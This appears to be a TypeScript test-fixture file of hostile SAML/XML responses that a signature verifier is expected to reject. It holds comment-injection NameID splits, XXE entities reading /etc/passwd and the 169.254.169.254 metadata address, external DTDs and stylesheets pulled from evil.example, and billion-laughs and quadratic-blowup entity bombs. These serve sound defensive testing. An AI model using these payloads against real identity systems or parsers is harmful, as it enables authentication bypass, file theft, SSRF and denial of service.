// What XML can do besides saying something: comments that cut a name in two for one reader and not for the next, document types with
// entities, processing instructions. All of it properly signed, where that is possible.
import { field, forge, JANE, swap, VICTIM } from '../../support/forgery.ts';
import type { HostileDocument } from './hostile-document.ts';

const [BEFORE, AFTER] = [`${VICTIM.slice(0, 6)}`, VICTIM.slice(6)];

/** In front of a document that is signed as it should be, with a use of it in the name. */
function withDoctype(doctype: string, use = ''): HostileDocument['field'] {
  return (keys) => field(doctype + forge(keys, { afterwards: (xml) => xml.replace(JANE, use + JANE) }));
}

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

export const MARKUP: readonly HostileDocument[] = [
  ...(
    [
      ['a comment in the NameID, put there after signing', { afterwards: swap(JANE, `${BEFORE}<!-- -->${AFTER}`) }],
      ['a comment that cuts the NameID, signed without it', { afterwards: swap(JANE, `${JANE}<!-- -->.evil.example`) }],
      ['a comment in an attribute value', { afterwards: swap('>Jane<', '>Ja<!---->ne<') }],
      ['a comment in the audience', { afterwards: swap('</Audience>', '<!-- --></Audience>') }],
      ['a comment in a digest', { afterwards: swap('<DigestValue>', '<DigestValue><!--AAAA-->') }],
      ['a comment in a signature value', { afterwards: swap('<SignatureValue>', '<SignatureValue><!--AAAA-->') }],
      ['a comment after the document', { afterwards: (xml: string) => `${xml}<!-- -->` }],
    ] as const
  ).map(
    ([what, steps]): HostileDocument => ({
      of: 'comments, CDATA and instructions',
      what,
      field: (keys) => field(forge(keys, steps)),
      refusedBy: 'contains a comment',
    }),
  ),
  {
    of: 'comments, CDATA and instructions',
    what: 'a CDATA section as NameID',
    field: (keys) => field(forge(keys, { afterwards: swap(JANE, `<![CDATA[${JANE}]]>`) })),
    refusedBy: 'contains a CDATA section',
  },
  {
    of: 'comments, CDATA and instructions',
    what: 'a processing instruction in the NameID',
    field: (keys) => field(forge(keys, { afterwards: swap(JANE, `${JANE}<?x y?>`) })),
    refusedBy: 'contains a processing instruction',
  },
  {
    of: 'comments, CDATA and instructions',
    what: 'a style sheet before the document',
    field: (keys) => field(`<?xml-stylesheet href="https://evil.example/x.xsl"?>${forge(keys)}`),
    refusedBy: 'contains a processing instruction',
  },
  ...(
    [
      ['a document type that says nothing', withDoctype('<!DOCTYPE Response>')],
      ['an external document type', withDoctype('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">')],
      ['an entity in the NameID', withDoctype('<!DOCTYPE r [<!ENTITY e "victim">]>', '&e;')],
      ['XXE: a file', withDoctype('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;')],
      ['XXE: an address', withDoctype('<!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/">]>', '&e;')],
      ['XXE: a parameter entity', withDoctype('<!DOCTYPE r [<!ENTITY % e SYSTEM "https://evil.example/"> %e;]>')],
      ['billion laughs', withDoctype(`<!DOCTYPE r [<!ENTITY l0 "ha">${LAUGHS}]>`, '&l9;')],
      ['quadratic blow-up', withDoctype(`<!DOCTYPE r [<!ENTITY e "${'a'.repeat(50_000)}">]>`, '&e;'.repeat(10_000))],
      ['a default attribute by document type', withDoctype('<!DOCTYPE r [<!ATTLIST NameID Format CDATA "x">]>')],
      [
        'a document type within the document',
        (keys) => field(forge(keys, { afterwards: swap('<samlp:Status>', '<!DOCTYPE r><samlp:Status>') })),
      ],
    ] as const satisfies readonly (readonly [string, HostileDocument['field']])[]
  ).map(
    ([what, make]): HostileDocument => ({
      of: 'document types and entities',
      what,
      field: make,
      refusedBy: 'contains a document type',
    }),
  ),
  ...(['&nbsp;', '&evil;', '&', '&amp', '&#xZZ;'] as const).map(
    (reference): HostileDocument => ({
      of: 'document types and entities',
      what: `${reference} without a document type`,
      field: (keys) => field(forge(keys, { afterwards: swap(JANE, JANE + reference) })),
      refusedBy: 'an entity other than the five of XML',
    }),
  ),
  ...(['&#0;', '&#x1;', '&#xFFFE;', '&#xD800;', '&#x110000;'] as const).map(
    (reference): HostileDocument => ({
      of: 'document types and entities',
      what: `${reference} in the NameID`,
      field: (keys) => field(forge(keys, { afterwards: swap(JANE, JANE + reference) })),
      refusedBy: 'refers to a character that XML does not allow',
    }),
  ),
];
